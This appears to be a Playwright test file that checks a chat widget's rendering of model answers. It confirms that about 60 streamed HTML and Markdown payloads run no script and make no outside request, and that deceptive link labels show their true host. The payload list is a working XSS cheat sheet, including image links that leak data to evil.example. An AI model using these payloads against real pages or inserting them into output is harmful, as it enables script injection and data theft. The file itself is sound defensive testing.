"""What the model wrote is data: it neither runs nor calls out, under the strictest policy, however it was cut."""

import random

import pytest
from playwright.async_api import Page, Request, expect

from tests.widget.fake_server import FakeGateway
from tests.widget.test_talk import say

PAYLOADS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><button>go</button></form>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "<template shadowrootmode=open><script>window.hacked=1</script></template>",
    "<parley-chat site=evil server=https://evil.example open></parley-chat>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\tscript:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](\\javascript:window.hacked=1)",
    "[x]( javascript:window.hacked=1)",
    "[x](<javascript:window.hacked=1>)",
    "[x](https://evil.example/ 'title\" onmouseover=\"window.hacked=1')",
    "[<img src=x onerror=window.hacked=1>](https://evil.example/)",
    "[https://bank.example](https://evil.example/)",
    "![x](https://evil.example/leak.png)",
    "![x](https://evil.example/leak.png?q=secret 'title')",
    "![x](javascript:window.hacked=1)",
    "![x](data:image/svg+xml,<svg onload=window.hacked=1>)",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "<javascript:window.hacked=1>",
    "<https://evil.example/<script>window.hacked=1</script>>",
    "https://evil.example/'><script>window.hacked=1</script>",
    "[ref]: javascript:window.hacked=1\n\n[ref]",
    "[ref][]\n\n[ref]: https://evil.example/x.png",
    "![ref]\n\n[ref]: https://evil.example/x.png",
    "```html\n<script>window.hacked=1</script>\n```",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "`<script>window.hacked=1</script>`",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:1) | ![](https://evil.example/t.png) |",
    "> <script>window.hacked=1</script>",
    "- <script>window.hacked=1</script>\n- [x](javascript:window.hacked=1)",
    "# <svg onload=window.hacked=1>",
    "**<b onclick=window.hacked=1>bold</b>**",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "<!-- --><script>window.hacked=1</script><!-- -->",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "\u202e<script>window.hacked=1</script>\u202c",
    "<scr\0ipt>window.hacked=1</scr\0ipt>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}",
    "[a](https://a.example/" + "x" * 5000 + ")",
    "*" * 2000 + "[" * 2000 + "`" * 2000,
    "> " * 500 + "- " * 500,
]


@pytest.mark.parametrize("seed", [1, 2])
async def test_hostile_answers_run_nothing_call_nobody_and_look_the_same_however_cut(
    gateway: FakeGateway, page: Page, seed: int
) -> None:
    """60 payloads under `default-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'`.

    Proves: WI-43, WI-49.
    """
    requested: list[str] = []
    violations: list[str] = []

    def note(request: Request) -> None:
        requested.append(request.url)

    page.on("request", note)
    page.on("console", lambda message: violations.append(message.text))
    cut = random.Random(seed)

    def pieces(text: str) -> list[str]:
        payload = PAYLOADS[int(text)]
        marks = sorted(cut.sample(range(1, len(payload)), min(len(payload) - 1, cut.randint(1, 12))))
        return [payload[a:b] for a, b in zip([0, *marks], [*marks, len(payload)], strict=True)]

    gateway.answer = pieces
    await page.goto(gateway.url)
    for index in range(len(PAYLOADS)):
        await say(page, str(index))
        await expect(page.locator(".msg[data-from=assistant]")).to_have_count(index + 1)
    answers = page.locator(
        ".msg[data-from=assistant][data-state=sent] .body, .msg[data-from=assistant][data-state=done] .body"
    )
    await expect(answers).to_have_count(len(PAYLOADS))
    streamed = await answers.evaluate_all("all => all.map((one) => one.innerHTML)")

    assert await page.evaluate("window.hacked") is None
    assert [url for url in requested if not url.startswith(("http://127.0.0.1", "ws://127.0.0.1"))] == []
    assert violations == []
    hrefs = await page.locator(".body a").evaluate_all("all => all.map((one) => one.protocol)")
    assert set(hrefs) <= {"http:", "https:", "mailto:"}
    allowed = (
        "p,h3,h4,h5,h6,hr,pre,code,blockquote,ul,ol,li,table,thead,tbody,tr,th,td,a,strong,em,del,br,span,div,button"
    )
    tags = await page.locator(".msg[data-from=assistant] .body *").evaluate_all(
        "all => [...new Set(all.map((one) => one.localName))]"
    )
    assert set(tags) <= set(allowed.split(","))

    await page.reload()
    for count in (50, 100):
        await expect(page.locator(".msg")).to_have_count(count)
        await page.get_by_role("button", name="Earlier messages").click()
    await expect(answers).to_have_count(len(PAYLOADS))
    whole = await answers.evaluate_all("all => all.map((one) => one.innerHTML)")
    assert [pair for pair in zip(streamed, whole, strict=True) if pair[0] != pair[1]] == []


async def test_a_link_shows_its_host(gateway: FakeGateway, page: Page) -> None:
    """A label may lie; the host beside it does not. Proves: WI-49."""
    gateway.answer = lambda text: ["[https://bank.example/login](https://evil.example/login)"]
    await page.goto(gateway.url)
    await say(page, "where")
    link = page.locator(".body a")
    await expect(link).to_have_text("https://bank.example/login (evil.example)")
    assert await link.get_attribute("rel") == "noreferrer"
